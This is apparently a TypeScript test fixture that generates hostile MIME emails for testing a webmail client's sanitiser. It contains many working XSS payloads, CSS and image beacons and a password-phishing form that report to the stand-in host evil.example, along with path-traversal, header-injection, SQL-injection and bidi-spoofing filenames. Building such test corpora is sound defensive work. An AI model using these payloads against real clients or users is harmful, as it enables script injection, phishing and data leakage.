/** Mails by attackers: everything that a client could run or fetch, as MIME messages. */

/** A message without its recipient. */
export type HostileMail = { shape: string; header: string[]; body: string };

/** Reports a run of the script to every window that it reaches, and to the attacker. */
const js = `parent.postMessage('ran','*');top.postMessage('ran','*');new Image().src='http://evil.example/ran'`;
const url = 'http://evil.example/reached';
const secure = 'https://evil.example/reached';
const scriptUrl = `javascript:${js}`;
const dataUrl = `data:text/html,<script>${js}</script>`;
const png =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Bodies in HTML by the shape of the attack. */
const bodies: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${js}</script>`,
    `<SCRIPT TYPE="text/javascript">${js}</SCRIPT>`,
    `<script src="${url}"></script>`,
    `<script type="module">${js}</script>`,
    `<script type="module" src="${url}"></script>`,
    `<script async defer src="//evil.example/reached"></script>`,
    `<scr<script>ipt>${js}</scr</script>ipt>`,
    `<script\n>${js}</script\n>`,
    `<script/x>${js}</script>`,
    `<script>/*<!--*/${js}/*-->*/</script>`,
    `<noscript><p title="</noscript><script>${js}</script>">x</p></noscript>`,
    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
    `<script type="importmap">{"imports":{"a":"${url}"}}</script><script type="module">import "a"</script>`,
  ],
  handler: [
    ...['load', 'error', 'click', 'focus', 'blur', 'mouseover', 'pointerenter', 'animationstart'].map(
      (event) => `<img src="x" on${event}="${js}">`,
    ),
    ...['toggle', 'pageshow', 'hashchange', 'beforeunload', 'resize', 'scroll', 'message'].map(
      (event) => `<body on${event}="${js}"><p>Hello</p>`,
    ),
    `<details open ontoggle="${js}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${js}">`,
    `<select autofocus onfocus="${js}"></select>`,
    `<textarea autofocus onfocus="${js}"></textarea>`,
    `<video src="x" onerror="${js}" autoplay></video>`,
    `<audio src="x" onerror="${js}" autoplay></audio>`,
    `<video><source onerror="${js}"></video>`,
    `<marquee onstart="${js}">x</marquee>`,
    `<style onload="${js}"></style>`,
    `<link rel="stylesheet" href="${url}" onload="${js}" onerror="${js}">`,
    `<img src=x onerror\n=\n"${js}">`,
    `<img/src=x/onerror="${js}">`,
    `<img src='x' ONERROR='${js.replaceAll("'", '&#39;')}'>`,
    `<p tabindex="0" autofocus onfocus="${js}">x</p>`,
    `<div contenteditable autofocus onfocus="${js}">x</div>`,
    `<xss style="animation-name:x" onanimationstart="${js}"></xss><style>@keyframes x{}</style>`,
    `<p popover id="p" onbeforetoggle="${js}">x</p><button popovertarget="p">x</button>`,
  ],
  'script URL': [
    ...[
      scriptUrl,
      `JaVaScRiPt:${js}`,
      `java\tscript:${js}`,
      `java&#10;script:${js}`,
      `\u0001javascript:${js}`,
    ].map((target) => `<a href="${target}">Read</a>`),
    `<a href="&#106;avascript:${js}">Read</a>`,
    `<a href="vbscript:msgbox(1)">Read</a>`,
    `<a href="${dataUrl}" target="_top">Read</a>`,
    `<a href="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">Read</a>`,
    `<a href="blob:${url}">Read</a><a href="filesystem:${url}">Read</a>`,
    `<img src="${scriptUrl}">`,
    `<form action="${scriptUrl}"><button autofocus>Go</button></form>`,
    `<button formaction="${scriptUrl}" form="f">Go</button><form id="f"></form>`,
    `<area href="${scriptUrl}" shape="rect" coords="0,0,999,999">`,
    `<a href="http://console.localhost/console/sign-out" target="_top" ping="${url}">Read</a>`,
  ],
  SVG: [
    `<svg onload="${js}"></svg>`,
    `<svg><script>${js}</script></svg>`,
    `<svg><script href="${url}"></script></svg>`,
    `<svg><script xlink:href="${url}"></script></svg>`,
    `<svg><animate onbegin="${js}" attributeName="x" dur="1s"></svg>`,
    `<svg><set attributeName="onmouseover" to="${js}"></set></svg>`,
    `<svg><a xlink:href="${scriptUrl}"><text y="9">x</text></a></svg>`,
    `<svg><a><animate attributeName="href" values="${scriptUrl}"/><text y="9">x</text></a></svg>`,
    `<svg><image href="${url}"/></svg>`,
    `<svg><use href="${url}#x"/></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${js.replaceAll('"', '&quot;')}</script>"></iframe></foreignObject></svg>`,
    `<svg><style>@import '${url}';</style></svg>`,
    `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js.replaceAll("'", '%27')}'/>">`,
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>">`,
    `<svg><discard onbegin="${js}"/></svg>`,
    `<svg><title><style><img src=x onerror="${js}"></style></title></svg>`,
  ],
  MathML: [
    `<math><maction actiontype="statusline#${url}" xlink:href="${scriptUrl}">x</maction></math>`,
    `<math href="${scriptUrl}"><mi>x</mi></math>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${js}"></style></mglyph></table></mtext></math>`,
    `<math><annotation-xml encoding="text/html"><script>${js}</script></annotation-xml></math>`,
    `<math><mi xlink:href="${dataUrl}">x</mi></math>`,
  ],
  refresh: [
    `<meta http-equiv="refresh" content="0; url=${url}">`,
    `<meta http-equiv="refresh" content="0;${scriptUrl}">`,
    `<meta http-equiv="refresh" content="0; url=${dataUrl}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline' *"><script>${js}</script>`,
    `<meta http-equiv="set-cookie" content="posthouse_session=stolen">`,
    `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="${secure}">Read</a>`,
    `<meta name="referrer" content="unsafe-url"><img src="${url}">`,
  ],
  base: [
    `<base href="http://evil.example/"><a href="reached">Read</a><img src="reached">`,
    `<base target="_top"><a href="${url}">Read</a>`,
    `<base href="javascript:/a/-${js}//"><a href="x">Read</a>`,
  ],
  form: [
    `<form action="${url}" method="post"><input name="password" type="password"><button>Sign in</button></form>`,
    `<form action="http://console.localhost/console/sign-out" method="post"><button>Read on</button></form>`,
    `<form id="f" action="${url}"></form><input form="f" type="image" src="${url}">`,
    `<form><button formaction="${url}" formtarget="_top" autofocus>Go</button></form>`,
    `<isindex action="${url}" prompt="Password">`,
    `<input type="image" src="${url}" onerror="${js}">`,
    `<form action="${url}"><input name="a" autofocus oninput="this.form.submit()"></form>`,
    `<dialog open><form method="dialog" action="${url}"><button>Close</button></form></dialog>`,
  ],
  frame: [
    `<iframe src="${url}"></iframe>`,
    `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    `<iframe src="${scriptUrl}"></iframe>`,
    `<iframe src="${dataUrl}"></iframe>`,
    `<iframe src="/console" name="console"></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${js}</script>"></iframe>`,
    `<object data="${url}"></object>`,
    `<object data="${dataUrl}" type="text/html"></object>`,
    `<object type="text/x-scriptlet" data="${scriptUrl}"></object>`,
    `<embed src="${url}">`,
    `<embed src="${dataUrl}" type="text/html">`,
    `<frameset><frame src="${url}"></frameset>`,
    `<portal src="${url}"></portal><fencedframe src="${secure}"></fencedframe>`,
    `<applet code="x" codebase="${url}"></applet>`,
  ],
  style: [
    `<style>@import url("${url}");</style>`,
    `<style>@import "${url}" screen;</style>`,
    `<style>body{background:url("${url}")}</style>`,
    `<style>body{background:\\75 rl("${url}")}</style>`,
    `<p style="background-image:url('${url}')">x</p>`,
    `<p style="width:expression(${js.replaceAll("'", '&#39;')})">x</p>`,
    `<p style="behavior:url(${url});-moz-binding:url(${url}#x)">x</p>`,
    `<style>@font-face{font-family:x;src:url("${url}")}p{font-family:x}</style><p>x</p>`,
    `<style>li{list-style-image:url("${url}")}</style><ul><li>x</li></ul>`,
    `<style>p::before{content:url("${url}")}</style><p>x</p>`,
    `<style>p{cursor:url("${url}"),auto;border-image:url("${url}") 9}</style><p>x</p>`,
    `<style>p{mask:url("${url}");clip-path:url("${url}#x");filter:url("${url}#x")}</style><p>x</p>`,
    `<style>input[value^="a"]{background:url("${url}?a")}</style><input value="abc">`,
    `<style>@media (prefers-color-scheme:dark){body{background:url("${url}?dark")}}</style>`,
    `<style>@supports (display:grid){body{background:image-set("${url}" 1x)}}</style>`,
    `<style>@namespace url("${url}");@counter-style x{symbols:url("${url}")}</style>`,
    `<link rel="stylesheet" href="${url}">`,
    `<link rel="stylesheet" href="data:text/css,body{background:url(${url})}">`,
    `<style>body{position:fixed;inset:0;z-index:999999;background:red}</style>`,
    `<style></style><script>${js}</script><style></style>`,
    `<style><!--</style><script>${js}</script>--></style>`,
  ],
  'remote part': [
    `<img src="${url}">`,
    `<img src="${secure}" width="1" height="1" style="display:none">`,
    `<img src="//evil.example/reached">`,
    `<img srcset="${url} 1x, ${secure} 2x">`,
    `<picture><source srcset="${url}"><img src="${url}"></picture>`,
    `<img src="data:," lowsrc="${url}" dynsrc="${url}">`,
    `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
    `<body background="${url}"><p>x</p>`,
    `<video poster="${url}" src="${url}" autoplay></video>`,
    `<audio src="${url}" autoplay></audio><track src="${url}">`,
    `<link rel="preconnect" href="${secure}">`,
    `<link rel="preconnect" href="https://preconnect.evil.example" crossorigin>`,
    `<link rel="dns-prefetch" href="${secure}"><link rel="prefetch" href="${url}">`,
    `<link rel="preload" as="image" href="${url}"><link rel="modulepreload" href="${url}">`,
    `<link rel="prerender" href="${url}"><link rel="next" href="${url}"><link rel="manifest" href="${url}">`,
    `<link rel="icon" href="${url}"><link rel="shortcut icon" href="${url}">`,
    `<html manifest="${url}"><p>x</p>`,
    `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><img longdesc="${url}">`,
    `<img src="http:evil.example/reached"><img src="\\\\evil.example\\reached"><img src="file:///etc/passwd">`,
    `<input type="image" src="${url}"><img usemap="#m" src="${url}"><map name="m"></map>`,
    `<img src="/console/sign-out"><img src="/console/live">`,
  ],
  parser: [
    `<p title="<!--"><script>${js}</script>-->x</p>`,
    `<!--><script>${js}</script>-->`,
    `<![CDATA[<script>${js}</script>]]>`,
    `<?xml version="1.0"?><?xml-stylesheet href="${scriptUrl}"?><p>x</p>`,
    `</pre></div></main></body></html><script>${js}</script>`,
    `</iframe></title></style></textarea></template><script>${js}</script>`,
    `<template><script>${js}</script></template><template shadowrootmode="open"><img src=x onerror="${js}"></template>`,
    `<plaintext><script>${js}</script>`,
    `<textarea></textarea><script>${js}</script>`,
    `<title><a href="</title><script>${js}</script>">x</a></title>`,
    `<xmp><script>${js}</script></xmp><img src=x onerror="${js}">`,
    `<table><td><img src=x onerror="${js}"><form><form><script>${js}</script>`,
    `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
    `\u00BCscript\u00BE${js}\u00BC/script\u00BE`,
    `<img src="x\` \`<script>${js}</script>"\` \`>`,
    `<a href="x"onclick="${js}"autofocus>x</a>`,
    `<p id="main"></p><p id="results"></p><form name="body"></form><img name="getElementById">`,
    `<div class="rail dialog" data-live data-copy="main" data-passkey="get" data-every="1" data-deferred="${url}">x</div>`,
    `${'<div>'.repeat(3_000)}<script>${js}</script>`,
    `<p>${'a'.repeat(20_000)}</p><img src=x onerror="${js}">`,
  ],
  bidi: [
    '<p>\u202Egnp.exe</p><p dir="rtl">\u2067abc</p>',
    '<p>\u2066\u202E\u2069\u202D\u200F</p>',
    `<p>${'\u0301'.repeat(2_000)}</p>`,
    '<p>\u{E0041}\u200B\u200C\u200D\uFEFF\u00AD</p>',
    `<a href="http://b\u0430nk.example/">bank.example</a>`,
    '<p>\uFDD0\uFFFE\u0085\u2028\u2029</p>',
  ],
};

const html = (shape: string, text: string, more: readonly string[] = []): HostileMail => ({
  shape,
  header: [
    `Subject: ${encoded(`${shape}: "'><img src=x onerror=${js}>`)}`,
    ...more,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
  ],
  body: inBase64(text),
});

const attack = `<p>x</p><script>${js}</script><img src="${url}" onerror="${js}">`;

/** Headers that a page shows. */
const headers: readonly (readonly string[])[] = [
  [`X-Attack: <script>${js}</script>`],
  [`X-Attack: "'><svg onload=${js}>`],
  [`X-Attack</td><script>: x`],
  [`List-Unsubscribe: <javascript:${js}>, <${url}>`],
  [`List-Archive: <${dataUrl}>`],
  [`Reply-To: "<img src=x onerror=${js}>" <eve@evil.example>`],
  [`Cc: "</title><script>${js}</script>" <eve@evil.example>`],
  [`Message-ID: <"<script>${js}</script>"@evil.example>`],
  [`In-Reply-To: <${url}>`, `References: <${scriptUrl}>`],
  [`X-Long: ${'a'.repeat(900)}`],
  [`X-Bidi: ${encoded('\u202Egnp.exe\u2066')}`],
  [`Comments: ${encoded(attack)}`, `Keywords: ${encoded(attack)}`],
  [`X-Face: ${url}`, `Face: ${png}`, `BIMI-Location: v=BIMI1; l=${secure}`],
  [`Disposition-Notification-To: <eve@evil.example>`, `Return-Receipt-To: <eve@evil.example>`],
  [`Content-Base: ${url}`, `Content-Location: ${url}`],
  [`Link: <${url}>; rel=preload`, `Refresh: 0; url=${url}`],
];

/** Names of attachments. */
const names: readonly string[] = [
  `<script>${js}</script>.txt`,
  `"><img src=x onerror=${js}>.png`,
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\drivers\\etc\\hosts',
  'invoice\u202Egnp.exe',
  `${'a'.repeat(900)}.pdf`,
  'CON',
  'a.html',
  'a.svg',
  'a.pdf.exe',
  '\u0000\u0001\u001B[31m.txt',
  'a\r\nContent-Type: text/html\r\n\r\n<script>',
  '',
  "'; DROP TABLE emails; --.csv",
];

const parts = (shape: string, pieces: readonly string[], kind = 'mixed'): HostileMail => ({
  shape,
  header: [
    `Subject: ${encoded(`${shape} <b>&amp;`)}`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/${kind}; boundary="part"`,
  ],
  body: `${pieces.map((piece) => `--part\r\n${piece}\r\n`).join('')}--part--\r\n`,
});
const htmlPart = (text: string): string =>
  `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${inBase64(text)}`;
const file = (name: string, type: string, text: string): string =>
  `Content-Type: ${type}\r\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}\r\nContent-Transfer-Encoding: base64\r\n\r\n${inBase64(text)}`;

/** Messages with an unusual structure. */
const structures: readonly HostileMail[] = [
  parts(
    'cid of a page',
    [
      htmlPart('<img src="cid:a">'),
      `Content-Type: text/html\r\nContent-ID: <a>\r\n\r\n<script>${js}</script>`,
    ],
    'related',
  ),
  parts(
    'cid of an SVG',
    [
      htmlPart('<img src="cid:a"><object data="cid:a"></object>'),
      `Content-Type: image/svg+xml\r\nContent-ID: <a>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
    ],
    'related',
  ),
  parts(
    'cid that ends the attribute',
    [
      htmlPart('<img src="cid:a">'),
      `Content-Type: image/png\r\nContent-ID: <a" onerror="${js}>\r\nContent-Transfer-Encoding: base64\r\n\r\n${png}`,
    ],
    'related',
  ),
  parts(
    'type that ends the attribute',
    [
      htmlPart(`<img src='cid:a'>`),
      `Content-Type: image/png"onerror="${js}\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n${png}`,
    ],
    'related',
  ),
  parts('nested message', [
    `Content-Type: message/rfc822\r\n\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n${attack}`,
  ]),
  parts('message nested nine times', [
    `${'Content-Type: message/rfc822\r\n\r\nSubject: inner\r\n'.repeat(9)}Content-Type: text/html\r\n\r\n${attack}`,
  ]),
  parts('two bodies', [htmlPart('<p>honest</p>'), htmlPart(attack)]),
  parts(
    'alternatives that differ',
    [`Content-Type: text/plain\r\n\r\n${attack}`, htmlPart(attack)],
    'alternative',
  ),
  parts('text that is markup', [`Content-Type: text/plain\r\n\r\n${attack}`]),
  parts('calendar', [
    `Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nSUMMARY:${attack}\r\nURL:${scriptUrl}\r\nEND:VCALENDAR`,
  ]),
  parts('external body', [
    `Content-Type: message/external-body; access-type=URL; URL="${url}"\r\n\r\nContent-Type: text/html\r\n\r\n`,
  ]),
  parts('delivery report', [
    `Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; ${attack}\r\nDiagnostic-Code: smtp; ${attack}`,
  ]),
  parts('boundary in a boundary', [
    `Content-Type: multipart/mixed; boundary="part--"\r\n\r\n--part--\r\nContent-Type: text/html\r\n\r\n${attack}\r\n`,
  ]),
  parts('charset UTF-7', [
    `Content-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  ]),
  parts('charset UTF-16', [
    `Content-Type: text/html; charset=utf-16le\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(attack, 'utf16le').toString('base64')}`,
  ]),
  parts('charset ISO-2022-JP', [
    `Content-Type: text/html; charset=iso-2022-jp\r\n\r\n<a title="\x1B$B" href="x">\x1B(B<script>${js}</script>`,
  ]),
  parts('unknown charset', [`Content-Type: text/html; charset="<script>"\r\n\r\n${attack}`]),
  parts('type with parameters of an attacker', [
    `Content-Type: text/html; x="</script><script>${js}</script>"\r\n\r\n${attack}`,
  ]),
  parts('page that calls itself an image', [
    htmlPart('<p>x</p>'),
    `Content-Type: image/png; name="a.png"\r\n\r\n${attack}`,
  ]),
  parts('XHTML', [
    `Content-Type: application/xhtml+xml\r\n\r\n<html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html>`,
  ]),
  parts(
    'AMP',
    [htmlPart('<p>x</p>'), `Content-Type: text/x-amp-html\r\n\r\n<html amp4email>${attack}</html>`],
    'alternative',
  ),
];

export const hostileMails: readonly HostileMail[] = [
  ...Object.entries(bodies).flatMap(([shape, texts]) => texts.map((text) => html(shape, text))),
  ...headers.map((lines) => html('header', attack, lines)),
  ...names.map((name) => parts('file name', [htmlPart('<p>x</p>'), file(name, 'text/html', attack)])),
  ...structures,
];

function encoded(text: string): string {
  const words = text.match(/[\s\S]{1,15}/gu) ?? [];
  return words.map((word) => `=?utf-8?B?${Buffer.from(word).toString('base64')}?=`).join('\r\n ');
}

function inBase64(text: string): string {
  return (
    Buffer.from(text)
      .toString('base64')
      .match(/.{1,76}/g) ?? []
  ).join('\r\n');
}
